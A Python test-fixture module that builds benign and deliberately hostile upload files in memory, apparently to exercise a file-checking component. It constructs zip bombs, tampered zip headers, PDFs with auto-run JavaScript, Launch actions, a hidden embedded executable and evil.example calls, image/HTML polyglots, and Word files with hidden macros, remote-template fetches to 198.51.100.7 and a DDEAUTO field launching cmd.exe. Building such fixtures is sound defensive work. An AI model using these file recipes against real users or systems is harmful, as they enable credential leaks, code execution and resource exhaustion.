"""Real evidence files made in memory: PDF, JPEG, PNG and Word, and some that only pretend to be."""
from __future__ import annotations

import io
import os
import struct
import zipfile
import zlib
from functools import lru_cache

from PIL import ExifTags, Image

MB = 1024 * 1024
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
WORD_XML = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            b"<w:body><w:p><w:r><w:t>Letter from the council</w:t></w:r></w:p></w:body></w:document>")


def make_png(size: int = 16, noise: bool = False) -> bytes:
    image = Image.frombytes("RGB", (size, size), os.urandom(size * size * 3)) if noise else \
        Image.new("RGB", (size, size), (200, 30, 30))
    out = io.BytesIO()
    image.save(out, format="PNG")
    return out.getvalue()


def make_jpg() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (16, 16), (30, 30, 200)).save(out, format="JPEG")
    return out.getvalue()


def make_pdf(padding: int = 0, *, catalog: bytes = b"", page: bytes = b"", objects: tuple[bytes, ...] = (),
             comment: bytes = b"") -> bytes:
    """A minimal valid one-page PDF with a correct cross-reference table; ``padding`` bytes of comment.

    ``catalog`` and ``page``: more entries for the catalog (object 1) and the page (object 3); ``objects``: the
    bodies of objects 4, 5, ...; ``comment``: a comment line after the header."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R%s >>" % catalog, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200]%s >>" % page, *objects]
    out = bytearray(b"%PDF-1.4\n")
    if padding:
        out += b"%" + b"x" * padding + b"\n"
    if comment:
        out += b"%" + comment + b"\n"
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def _content_types(main: str) -> str:
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>')


def make_docx(main: str = DOCX_MAIN, extra: dict | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _content_types(main))
        archive.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org'
                         '/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org'
                         '/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
                         '</Relationships>')
        archive.writestr("word/document.xml", WORD_XML)
        for name, content in (extra or {}).items():
            archive.writestr(name, content)
    return out.getvalue()


def make_docm() -> bytes:
    return make_docx(DOCM_MAIN, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"})


def make_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("notes.txt", "not a Word document")
    return out.getvalue()


EXE = (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48
       + b"This program cannot be run in DOS mode")
HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"


# Zip bombs and other hostile archives, built here rather than stored. Parts are written in 1 MB
# blocks through ``ZipFile.open(..., "w")``, so building a bomb never holds its unpacked size in memory.
XLSX_PARTS = {
    "[Content_Types].xml": '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
                           'package/2006/content-types"/>',
    "xl/workbook.xml": '<?xml version="1.0" encoding="UTF-8"?><workbook/>',
}


def make_archive(parts: dict[str, bytes | str], *, zeros: dict[str, int] | None = None,
                 compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip of ``parts``, plus parts of ``zeros[name]`` MB of zero bytes (which pack about 1,000:1)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
        for name, megabytes in (zeros or {}).items():
            with archive.open(name, "w") as member:
                for _ in range(megabytes):
                    member.write(bytes(MB))
    return out.getvalue()


@lru_cache(maxsize=None)  # packing 200 MB takes seconds: each bomb is made once per test run
def make_docx_bomb(megabytes: int = 200) -> bytes:
    """A Word file whose document part unpacks to ``megabytes`` MB, and says so in its directory."""
    return make_archive({"[Content_Types].xml": _content_types(DOCX_MAIN)}, zeros={"word/document.xml": megabytes})


@lru_cache(maxsize=None)
def make_xlsx_bomb(megabytes: int = 200) -> bytes:
    """An Excel workbook whose first sheet unpacks to ``megabytes`` MB."""
    return make_archive(XLSX_PARTS, zeros={"xl/worksheets/sheet1.xml": megabytes})


def lie_about_size(archive: bytes, member: str, declared: int = 1000) -> bytes:
    """The same zip with ``member``'s unpacked size rewritten as ``declared`` in both its local header and
    the central directory (the CRC is left true, so only a reader that counts what it unpacks can tell)."""
    data = bytearray(archive)
    name = member.encode()
    local = _header(data, b"PK\x03\x04", name, 30, 26)
    central = _header(data, b"PK\x01\x02", name, 46, 28)
    data[local + 22:local + 26] = struct.pack("<I", declared)
    data[central + 24:central + 28] = struct.pack("<I", declared)
    return bytes(data)


def set_flag_bits(archive: bytes, member: str, bits: int) -> bytes:
    """The same zip with general-purpose flag ``bits`` set on ``member`` (0x1: encrypted)."""
    data = bytearray(archive)
    for signature, size, length_at, flags_at in ((b"PK\x03\x04", 30, 26, 6), (b"PK\x01\x02", 46, 28, 8)):
        start = _header(data, signature, member.encode(), size, length_at)
        data[start + flags_at:start + flags_at + 2] = struct.pack(
            "<H", struct.unpack("<H", data[start + flags_at:start + flags_at + 2])[0] | bits)
    return bytes(data)


def _header(data: bytearray, signature: bytes, name: bytes, fixed_size: int, name_length_at: int) -> int:
    """Where the header with this signature for the member called ``name`` starts."""
    start = data.find(signature)
    while start != -1:
        length = struct.unpack("<H", data[start + name_length_at:start + name_length_at + 2])[0]
        if data[start + fixed_size:start + fixed_size + length] == name:
            return start
        start = data.find(signature, start + 1)
    raise LookupError(name)


def make_docx_with_photos(photos: int = 3, side: int = 1000) -> bytes:
    """A real Word file (python-docx) holding ``photos`` photographs that do not compress (about 3 MB each)."""
    from docx import Document
    from docx.shared import Mm

    document = Document()
    document.add_paragraph("Photographs of the letter as it arrived.")
    for _ in range(photos):
        document.add_picture(io.BytesIO(make_png(side, noise=True)), width=Mm(120))
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()



# Files that are what they say, and something more: each is refused (claims/filecheck.py).

def pdf_stream(content: bytes, dictionary: bytes = b"", *, compress: bool = True) -> bytes:
    """The body of a stream object: ``content`` (FlateDecode-compressed unless told) with its dictionary."""
    packed = zlib.compress(content) if compress else content
    flate = b" /Filter /FlateDecode" if compress else b""
    return b"<<%s%s /Length %d >>\nstream\n%s\nendstream" % (dictionary, flate, len(packed), packed)


JS_ACTION = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>"


def make_pdf_with_text() -> bytes:
    """A clean PDF whose page text is a compressed (FlateDecode) content stream."""
    return make_pdf(page=b" /Contents 4 0 R", objects=(pdf_stream(b"BT /F1 12 Tf 20 100 Td (Letter) Tj ET"),))


def make_pdf_open_action_js() -> bytes:
    return make_pdf(catalog=b" /OpenAction 4 0 R", objects=(JS_ACTION,))


def make_pdf_page_aa_js() -> bytes:
    """JavaScript run when the page opens (an additional action, /AA), named by the short /JS."""
    action = b"<< /S /JS /JS (app.launchURL\\('http://evil.example'\\)) >>"
    return make_pdf(page=b" /AA << /O 4 0 R >>", objects=(action,))


def make_pdf_hex_escaped_js() -> bytes:
    """/JavaScript written /J#61vaScript: the same name to a PDF reader, another to a naive byte search."""
    action = b"<< /Type /Action /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"
    return make_pdf(catalog=b" /OpenAction 4 0 R", objects=(action,))


def make_pdf_launch() -> bytes:
    action = b"<< /S /Launch /F (C:\\\\Windows\\\\System32\\\\cmd.exe) >>"
    return make_pdf(catalog=b" /OpenAction 4 0 R", objects=(action,))


def make_pdf_embedded_file() -> bytes:
    return make_pdf(catalog=b" /Names << /EmbeddedFiles << /Names [(invoice.exe) 4 0 R] >> >>",
                    objects=(pdf_stream(EXE, b" /Type /EmbeddedFile"),))


def make_pdf_js_in_object_stream() -> bytes:
    """The JavaScript action inside a compressed object stream, where a scan of the raw bytes cannot see it."""
    object_stream = pdf_stream(b"5 0 " + JS_ACTION, b" /Type /ObjStm /N 1 /First 4")
    return make_pdf(catalog=b" /OpenAction 5 0 R", objects=(object_stream,))


def make_pdf_encrypted() -> bytes:
    return make_pdf(objects=(b"<< /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >>",)).replace(
        b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 4 0 R")


def make_pdf_html_polyglot() -> bytes:
    """A PDF whose first comment is a web page: a PDF to a reader, HTML to a browser."""
    return make_pdf(comment=b"<html><body><script>alert(document.cookie)</script></body></html>")


def eicar() -> bytes:
    """The EICAR anti-virus test string, assembled here so no scanner flags this source file."""
    return b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-" + b"TEST-FILE!$H+H*"


def make_pdf_with_eicar() -> bytes:
    return make_pdf(comment=eicar())


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def add_png_chunk(png: bytes, kind: bytes, data: bytes) -> bytes:
    """The PNG with a chunk added straight after its header chunk (IHDR)."""
    return png[:33] + _png_chunk(kind, data) + png[33:]


def make_png_with_html() -> bytes:
    """A PNG whose text chunk is a web page: a browser told it is HTML runs the script."""
    return add_png_chunk(make_png(), b"tEXt", b"Comment\x00" + HTML)


def make_png_with_text() -> bytes:
    return add_png_chunk(make_png(), b"tEXt", b"Author\x00Alex Morgan, 1 Acacia Avenue")


@lru_cache(maxsize=None)
def make_png_flood(side: int = 10_000) -> bytes:
    """A real ``side`` × ``side`` black-and-white PNG: small on disk, 100 megapixels when opened."""
    out = io.BytesIO()
    Image.new("1", (side, side)).save(out, format="PNG")
    return out.getvalue()


def set_jpeg_size(jpeg: bytes, width: int, height: int) -> bytes:
    """The JPEG with its frame header (SOF0) claiming ``width`` × ``height``."""
    at = jpeg.find(b"\xff\xc0")
    return jpeg[:at + 5] + struct.pack(">HH", height, width) + jpeg[at + 9:]


def make_jpg_with_gps(orientation: int = 6) -> bytes:
    """A phone photo: EXIF with the camera, where it was taken (GPS) and its orientation."""
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "PhoneMaker"
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.IFD.GPSInfo] = {ExifTags.GPS.GPSLatitudeRef: "N", ExifTags.GPS.GPSLatitude: (53.0, 28.0, 51.0),
                                  ExifTags.GPS.GPSLongitudeRef: "W", ExifTags.GPS.GPSLongitude: (2.0, 14.0, 40.0)}
    out = io.BytesIO()
    Image.new("RGB", (32, 16), (30, 30, 200)).save(out, format="JPEG", exif=exif, comment=b"Alex's flat")
    return out.getvalue()


def make_jpg_with_html_comment() -> bytes:
    jpeg = make_jpg()
    return jpeg[:2] + b"\xff\xfe" + struct.pack(">H", len(HTML) + 2) + HTML + jpeg[2:]


def make_jpg_zip_polyglot() -> bytes:
    """A JPEG with a zip appended after its end marker: a picture to a viewer, an archive to an unzipper."""
    return make_jpg() + make_zip()


def make_docx_hidden_macros() -> bytes:
    """Declared a plain Word document, with a VBA project inside that the content types do not mention."""
    return make_docx(extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 VBA project"})


def make_docx_activex() -> bytes:
    control = ('<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
               'ax:classid="{8BD21D40}"/>')
    return make_docx(extra={"word/activeX/activeX1.xml": control})


def _rels(*relationships: tuple[str, str, str]) -> str:
    items = "".join(f'<Relationship Id="rId{n}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                    f'relationships/{kind}" Target="{target}"{mode}/>'
                    for n, (kind, target, mode) in enumerate(relationships, 1))
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
            f'openxmlformats.org/package/2006/relationships">{items}</Relationships>')


EXTERNAL = ' TargetMode="External"'


def make_docx_external_template() -> bytes:
    """Word fetches the attached template from this address when the file opens (and sends the user's credentials)."""
    return make_docx(extra={
        "word/settings.xml": '<?xml version="1.0"?><w:settings xmlns:w="http://schemas.openxmlformats.org/'
                             'wordprocessingml/2006/main"><w:attachedTemplate r:id="rId1" xmlns:r="http://'
                             'schemas.openxmlformats.org/officeDocument/2006/relationships"/></w:settings>',
        "word/_rels/settings.xml.rels": _rels(("attachedTemplate", "http://198.51.100.7/template.dotm", EXTERNAL))})


def make_docx_external_image() -> bytes:
    return make_docx(extra={"word/_rels/document.xml.rels": _rels(
        ("image", "file://198.51.100.7/share/pixel.png", EXTERNAL), ("oleObject", "http://evil.example/x", EXTERNAL))})


def make_docx_with_hyperlink() -> bytes:
    """A link the reader may click: Word never follows it by itself, so it is accepted."""
    return make_docx(extra={"word/_rels/document.xml.rels": _rels(
        ("hyperlink", "https://ico.org.uk/", EXTERNAL), ("styles", "styles.xml", ""))})


def _word_part(tag: str, body: str) -> str:
    return (f'<?xml version="1.0" encoding="UTF-8"?><w:{tag} xmlns:w="http://schemas.openxmlformats.org/'
            f'wordprocessingml/2006/main">{body}</w:{tag}>')


def make_docx_include_picture() -> bytes:
    """A header whose field fetches a picture from a server each time the document opens."""
    field = '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://198.51.100.7/p.png&quot; \\d "/></w:p>'
    return make_docx(extra={"word/header1.xml": _word_part("hdr", field)})


def make_docx_ddeauto() -> bytes:
    """A DDEAUTO field that starts a program, its name split over two runs and written in lower case."""
    runs = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> dde</w:instrText></w:r>'
            '<w:r><w:instrText>auto c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    return make_docx(extra={"word/footer1.xml": _word_part("ftr", runs)})


def make_docx_with_hyperlink_field() -> bytes:
    """A HYPERLINK field whose address holds the words link and import: a link, accepted."""
    field = '<w:p><w:fldSimple w:instr=" HYPERLINK &quot;https://example.org/link/import&quot; "/></w:p>'
    return make_docx(extra={"word/footer1.xml": _word_part("ftr", field)})
